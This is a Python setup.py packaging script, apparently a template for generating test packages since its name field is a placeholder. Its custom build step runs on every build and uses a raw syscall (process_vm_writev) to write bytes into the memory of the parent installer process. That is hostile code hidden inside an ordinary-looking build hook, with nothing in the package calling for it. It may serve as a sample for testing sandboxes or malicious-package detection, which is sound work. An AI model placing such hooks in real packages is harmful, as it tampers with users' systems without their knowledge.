import os
import sys

from setuptools import setup
from setuptools.command.build_py import build_py as _base


class Step(_base):
    def run(self):
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        buf = ctypes.create_string_buffer(16)
        class iovec(ctypes.Structure):
            _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]
        iov = iovec(ctypes.addressof(buf), 16)
        libc.syscall(311, os.getppid(), ctypes.byref(iov), 1, ctypes.byref(iov), 1, 0)
        super().run()


setup(name="@@NAME@@", version="1.0", packages=["pjatk"],
      cmdclass={"build_py": Step})
